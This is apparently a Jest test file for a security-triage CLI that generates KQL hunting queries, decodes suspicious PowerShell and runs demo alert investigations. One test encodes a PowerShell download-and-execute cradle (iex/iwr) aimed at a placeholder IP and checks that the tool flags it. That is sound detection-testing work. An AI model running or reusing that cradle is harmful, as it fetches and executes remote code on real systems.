/** `triage-bot queries | analyze-command | investigate`: JSON shapes and exit codes. */
import { join } from 'node:path';
import { main } from '../../src/cli/main';
import { analyzeKql } from '../domain/investigation/kusto-analyzer';

const ALERT = join(__dirname, '../../demo/alerts/flagship-2-suspicious-powershell.export.json');

async function run(...argv: string[]) {
  let stdout = '';
  let stderr = '';
  const code = await main(argv, { stdout: (s) => (stdout += s), stderr: (s) => (stderr += s), env: {} });
  return { code, stdout, stderr };
}

describe('investigation CLI commands', () => {
  test('queries prints [{name, query, timespan "start/end"}], every query valid KQL', async () => {
    const { code, stdout } = await run('queries', ALERT);
    expect(code).toBe(0);
    const out = JSON.parse(stdout) as { name: string; query: string; timespan: string }[];
    expect(out.map((q) => q.name)).toEqual(expect.arrayContaining(['logons', 'process-creation', 'sentinel-alerts', 'threat-intel']));
    for (const q of out) {
      expect(Object.keys(q)).toEqual(['name', 'query', 'timespan']);
      expect(q.timespan).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z\/\d{4}-\d\d-\d\dT[\d:.]+Z$/);
      expect(analyzeKql(q.query).errors).toEqual([]);
    }
    expect(out.find((q) => q.name === 'logons')!.timespan).toBe('2026-11-26T01:16:04.000Z/2026-11-26T02:46:04.000Z');
  });

  test('queries honours the configured window', async () => {
    let stdout = '';
    await main(['queries', ALERT], { stdout: (s) => (stdout += s), stderr: () => {}, env: { INVESTIGATION_WINDOW_BEFORE_MINUTES: '10', INVESTIGATION_WINDOW_AFTER_MINUTES: '5' } });
    expect(JSON.parse(stdout)[0].timespan).toBe('2026-11-26T02:06:04.000Z/2026-11-26T02:21:04.000Z');
  });

  test('analyze-command prints {decoded, findings, iocs}', async () => {
    const enc = Buffer.from("iex (iwr 'http://198.51.100.7/a')", 'utf16le').toString('base64');
    const { code, stdout } = await run('analyze-command', `powershell -nop -enc ${enc}`);
    expect(code).toBe(0);
    expect(JSON.parse(stdout)).toEqual({
      decoded: "iex (iwr 'http://198.51.100.7/a')",
      findings: [
        { id: 'encoded-command', evidence: expect.stringMatching(/^-enc /), mitre: 'T1027.010', layer: 'cmd' },
        { id: 'no-profile', evidence: '-nop', mitre: 'T1059.001', layer: 'cmd' },
        { id: 'download-cradle', evidence: expect.stringContaining('iwr'), mitre: 'T1105', layer: 'cmd › powershell › base64' },
        { id: 'invoke-expression', evidence: 'iex', mitre: 'T1059.001', layer: 'cmd › powershell › base64' },
        { id: 'download-and-execute', evidence: "iex (iwr 'http://198.51.100.7/a')", mitre: 'T1105', layer: 'cmd › powershell › base64' },
      ],
      iocs: { ips: ['198.51.100.7'], urls: ['http://198.51.100.7/a'], domains: [], hashes: [] },
    });
  });

  test('investigate runs against the demo workspace in local mode', async () => {
    const { code, stdout } = await run('investigate', ALERT, '--kind', 'identity');
    expect(code).toBe(0);
    expect(JSON.parse(stdout).answer).toMatch(/^svc-backup \(local account\) logged on by RDP from 198\.51\.100\.23 at 02:13/);
  });

  test.each([
    [['analyze-command'], /usage: triage-bot analyze-command/],
    [['queries'], /usage: triage-bot queries/],
    [['queries', '/no/such/file.json'], /cannot read \/no\/such\/file\.json/],
    [['investigate', ALERT, '--kind', 'everything'], /--kind must be one of identity, correlation, analyze/],
  ])('bad input %j exits 2 with one line on stderr', async (argv, message) => {
    const { code, stderr, stdout } = await run(...argv);
    expect(code).toBe(2);
    expect(stdout).toBe('');
    expect(stderr).toMatch(message);
    expect(stderr.trim().split('\n')).toHaveLength(1);
  });
});
